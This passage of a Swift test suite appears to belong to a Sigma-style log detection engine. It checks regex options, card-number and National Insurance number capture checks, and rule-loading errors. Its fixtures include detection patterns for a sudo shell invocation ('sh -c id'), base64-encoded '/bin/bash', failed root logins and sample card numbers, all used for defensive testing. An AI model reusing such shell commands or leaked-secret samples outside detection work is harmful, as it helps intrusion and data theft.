        #expect(!matches(rule, RuleFixtures.failedRoot))
        // Without the flag the pinned values are not used: the rule is skipped.
        #expect(try RuleLoader().loadDocuments(yaml, path: "t.yml").isEmpty)
        // The pinned values win over the profile's under test.
        let pinned = try #require(try RuleLoader(placeholders: ["admin_accounts": ["root"]], usesTestPlaceholders: true).loadDocuments(yaml, path: "t.yml").first)
        #expect(!matches(pinned, RuleFixtures.failedRoot))
    }

    // MARK: pcre2 options

    @Test("pcre2 utf: dot matches a character, and invalid UTF-8 is no engine error")
    func pcre2UTF() throws {
        // A non-ASCII user name: `.{4}` is four characters only in UTF mode.
        let line = "Mar  7 10:00:21 web01 sshd[2101]: Failed password for invalid user jürg from 203.0.113.50 port 40022 ssh2"
        let detection = "selection:\n    message|re: 'invalid user .{4} from'\ncondition: selection"
        #expect(matches(try self.rule(detection, extra: "pcre2: {utf: true}"), line))
        #expect(!matches(try self.rule(detection), line))
        // UTF mode still reads lines with invalid UTF-8 (no engine error, no match on the bad byte).
        var bad = Array(line.utf8)
        bad[bad.firstIndex(of: 0xc3)!] = 0xff
        #expect(!matches(try self.rule(detection, extra: "pcre2: {utf: true}"), bad))
    }

    @Test("pcre2 utf: plain values with non-ASCII characters still match")
    func pcre2UTFPlainValues() throws {
        // Turning UTF on for a rule must not break its plain (non-regex) values.
        let line = "Mar  7 10:00:21 web01 sshd[2101]: Failed password for invalid user jürg from 203.0.113.50 port 40022 ssh2"
        let utf = "pcre2: {utf: true}"
        #expect(matches(try self.rule("selection:\n    user: 'jürg'\ncondition: selection", extra: utf), line))
        #expect(matches(try self.rule("selection:\n    user: 'JÜRG'\ncondition: selection", extra: utf), line))
        #expect(matches(try self.rule("selection:\n    user: 'j?rg'\ncondition: selection", extra: utf), line))
        #expect(!matches(try self.rule("selection:\n    user: 'jurg'\ncondition: selection", extra: utf), line))
        #expect(matches(try self.rule("selection:\n    message|contains: 'user jürg from'\ncondition: selection", extra: utf), line))
        // Dashes of windash are multi-byte characters too.
        let sudo = "Mar  7 10:01:02 web01 sudo:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/sh \u{2014}c id"
        #expect(matches(try self.rule("selection:\n    COMMAND|windash|contains: ' -c '\ncondition: selection", extra: utf), sudo))
        // UTF-16 with a byte order mark is not UTF-8; the value is still matched as bytes.
        let utf16 = try self.rule("keywords:\n    '|utf16':\n        - 'cmd'\ncondition: keywords", logsource: Self.linux, extra: utf)
        #expect(matches(utf16, lineWith([0xff, 0xfe, 0x63, 0x00, 0x6d, 0x00, 0x64, 0x00])))
    }

    @Test("pcre2 match_limit bounds the rule's regexes below the engine's limit")
    func pcre2MatchLimit() throws {
        // A rule author can cap a risky regex; hitting the cap is an engine error, not a miss.
        let line = "Mar  7 10:00:21 web01 sshd[1]: " + String(repeating: "a", count: 12) + "!"
        let detection = "selection:\n    message|re: '(a+)+$'\ncondition: selection"
        let limited = try self.rule(detection, extra: "pcre2: {match_limit: 100}")
        #expect(RuleFixtures.evaluate(limited, line).outcome == .engineError(code: -47))
        #expect(RuleFixtures.evaluate(try self.rule(detection), line).outcome == .noMatch)
        // An ordinary line stays within the limit.
        #expect(RuleFixtures.evaluate(try self.rule("selection:\n    message|re: '^Failed password'\ncondition: selection", extra: "pcre2: {match_limit: 100}"), RuleFixtures.failedRoot).outcome == .matched)
    }

    @Test("pcre2 options are checked", arguments: [
        ("pcre2: {match_limit: 0}", "pcre2.match_limit must be a positive number"),
        ("pcre2: {match_limit: 100000000000}", "pcre2.match_limit must be a positive number"),
        ("pcre2: {utf: yes please}", "pcre2.utf takes true or false"),
        ("pcre2: {utf8: true}", "pcre2: unknown key 'utf8'"),
        ("pcre2: true", "pcre2 must be a mapping"),
    ])
    func pcre2Errors(extra: String, fragment: String) {
        // A typo in an engine option must not silently leave the default in place.
        expectLoadError("selection:\n    program: sshd\ncondition: selection", extra: extra, containing: [fragment])
    }

    // MARK: Capture checks (entities)

    private func checkedRule(_ check: String, _ pattern: String) throws -> DetectionRule {
        try self.rule("selection:\n    message|re: '\(pattern)'\ncondition: selection", logsource: Self.linux,
                 extra: "entities:\n    value: {type: secret, check: \(check)}")
    }

    @Test("luhn accepts valid card numbers with spaces or dashes", arguments: ["4111 1111 1111 1111", "4539-1488-0343-6467", "4111111111111111", "378282246310005"])
    func luhnAccepts(card: String) throws {
        // Card numbers leak into application logs; only Luhn-valid ones are card numbers.
        let rule = try checkedRule("luhn", "card=(?<value>[0-9][0-9 -]{11,21}[0-9])")
        let result = RuleFixtures.evaluate(rule, "Mar  7 10:03:00 web01 payments[3100]: charge declined card=\(card) amount=10.00")
        #expect(result.isMatched)
        #expect(result.text("value") == card)
    }

    @Test("luhn rejects a wrong check digit and all-zero numbers", arguments: ["4111111111111112", "0000000000000000", "4111 1111 1111 1112", "4539-1488-0343-6468"])
    func luhnRejects(card: String) throws {
        // An order number with a card's shape is not a card: the failing capture undoes the match.
        let rule = try checkedRule("luhn", "card=(?<value>[0-9][0-9 -]{11,21}[0-9])")
        let result = RuleFixtures.evaluate(rule, "Mar  7 10:03:00 web01 payments[3100]: charge declined card=\(card) amount=10.00")
        #expect(result.outcome == .noMatch)
        #expect(result.captures.isEmpty)
    }

    @Test("uk-nino accepts HMRC-format National Insurance numbers", arguments: ["AB 12 34 56 C", "AB123456C", "ab123456d", "JG 10 37 41 A"])
    func ninoAccepts(number: String) throws {
        // NI numbers in HR application logs are personal data.
        let rule = try checkedRule("uk-nino", "nino=(?<value>[A-Za-z]{2} ?[0-9]{2} ?[0-9]{2} ?[0-9]{2} ?[A-Za-z])")
        #expect(RuleFixtures.evaluate(rule, "Mar  7 10:04:00 web01 hrapp[4100]: updated employee nino=\(number) by admin").isMatched)
    }

    @Test("uk-nino rejects unissued prefixes, unused letters and a bad suffix", arguments: ["BG123456A", "QQ123456C", "AB123456E", "GB123456A", "AO123456A", "DA123456A", "ZZ123456A", "NK123456B"])
    func ninoRejects(number: String) throws {
        // BG/GB/… are never issued, Q is never used, the suffix is A–D: look-alikes are not NI numbers.
        let rule = try checkedRule("uk-nino", "nino=(?<value>[A-Za-z]{2} ?[0-9]{2} ?[0-9]{2} ?[0-9]{2} ?[A-Za-z])")
        #expect(RuleFixtures.evaluate(rule, "Mar  7 10:04:00 web01 hrapp[4100]: updated employee nino=\(number) by admin").outcome == .noMatch)
    }

    @Test("a check applies to its capture only, and an unknown check is a load error")
    func checkScope() throws {
        // Other captures of the rule are not checked; a misspelt check must not be ignored.
        let rule = try self.rule("selection:\n    message|re: 'order=(?<order>[0-9]{16}) card=(?<card>[0-9]{16})'\ncondition: selection", logsource: Self.linux,
                            extra: "entities:\n    card: {type: secret, check: luhn}\n    order: {type: bytes}")
        let result = RuleFixtures.evaluate(rule, "Mar  7 10:03:00 web01 payments[3100]: order=1234567890123456 card=4111111111111111")
        #expect(result.isMatched)
        #expect(result.text("order") == "1234567890123456")
        expectLoadError("selection:\n    program: sshd\ncondition: selection", extra: "entities:\n    card: {type: secret, check: lunh}", containing: ["check must be one of luhn, uk-nino"])
    }

    // MARK: Load errors and suggestions

    @Test("modifier combinations that cannot mean anything are load errors", arguments: [
        ("message|re|base64: 'L2Jpbi9iYXNo'", "'re' cannot be combined with encodings"),
        ("message|re|windash: ' -c'", "'re' cannot be combined"),
        ("message|re|cased: 'x'", "'re' cannot be combined"),
        ("message|base64|base64offset|contains: 'x'", "base64 and base64offset exclude one another"),
        ("message|windash|base64|contains: ' -c'", "base64 encodings take a plain value"),
        ("message|base64offset|contains: 'sh*'", "base64 encodings take a plain value"),
        ("src_ip|cidr|gte: '10.0.0.0/8'", "'cidr' cannot be combined"),
        ("src_ip|cidr|contains: '10.0.0.0/8'", "take no string modifiers"),
        ("src_port|gte|base64: 1", "take no string modifiers"),
        ("pid|exists|neq: true", "'exists' takes no other modifier"),
        ("message|contains|all: 'Failed'", "'all' needs a list of two or more values"),
        ("message|contains|all:\n        - 'Failed'", "'all' needs a list of two or more values"),
    ])
    func badCombinations(key: String, fragment: String) {
        // Each of these would otherwise load a rule that means something other than what it says.
        expectLoadError("selection:\n    \(key)\ncondition: selection", containing: [fragment])
    }

    @Test("a misspelt modifier suggests the nearest known one", arguments: [
        ("message|contain: x", "did you mean 'contains'"),
        ("message|base46: x", "did you mean 'base64'"),
        ("message|windsh: x", "did you mean 'windash'"),
        ("src_ip|cdir: '10.0.0.0/8'", "did you mean 'cidr'"),
        ("status|gtee: 1", "did you mean 'gte'"),
        ("USER|fieldrf: SUDO_USER", "did you mean 'fieldref'"),
        ("user|exapnd: '%x%'", "did you mean 'expand'"),
        ("timestamp|hours: 1", "did you mean 'hour'"),
        ("USER|nq: root", "did you mean 'neq'"),
    ])
    func misspeltModifier(key: String, suggestion: String) {
        // New modifiers are easy to misspell; the error should say what was meant.
        expectLoadError("selection:\n    \(key)\ncondition: selection", containing: ["unknown modifier", suggestion])
    }

    @Test("a misspelt top-level key suggests the nearest known one")
    func misspeltKey() {
        // `entites:` would otherwise drop the capture checks silently.
        expectLoadError("selection:\n    program: sshd\ncondition: selection", extra: "entites:\n    user: {type: user}", containing: ["unknown key 'entites'", "did you mean 'entities'"])
    }

    @Test("exposure.category must be a VERIS data variety")
    func exposureCategory() throws {
        // Exposure reports are aggregated by VERIS variety; a free-text category would not aggregate.
        let ok = try self.rule("selection:\n    program: sshd\ncondition: selection", extra: "exposure: {category: payment, disclosure: potential, asset: account}")
        #expect(ok.exposure?.category == "payment")
        expectLoadError("selection:\n    program: sshd\ncondition: selection", extra: "exposure: {category: passwords, disclosure: potential}", containing: ["exposure.category 'passwords' is not a VERIS data variety"])
        expectLoadError("selection:\n    program: sshd\ncondition: selection", extra: "exposure: {category: Credentials}", containing: ["is not a VERIS data variety"])
    }

    @Test("duplicate rule names across files are a load error")
    func duplicateNames() throws {
        // Tests and correlations refer to rules by name: two rules with one name are ambiguous.
        let folder = try RuleFolder()
        defer { folder.remove() }
        let first = try folder.write("a.yml", RuleFixtures.document(id: "11111111-0000-4000-8000-000000000001", detection: "k: xyz\ncondition: k", extra: "name: sshd_failure"))
        try folder.write("b.yml", RuleFixtures.document(id: "11111111-0000-4000-8000-000000000002", detection: "k: abc\ncondition: k", extra: "name: sshd_failure"))
        #expect {
            _ = try RuleLoader().load(paths: [folder.path])
        } throws: { error in
            guard let error = error as? RuleLoadError else { return false }
            return error.message.contains("duplicate rule name 'sshd_failure'") && error.message.contains(first)
        }
    }
}
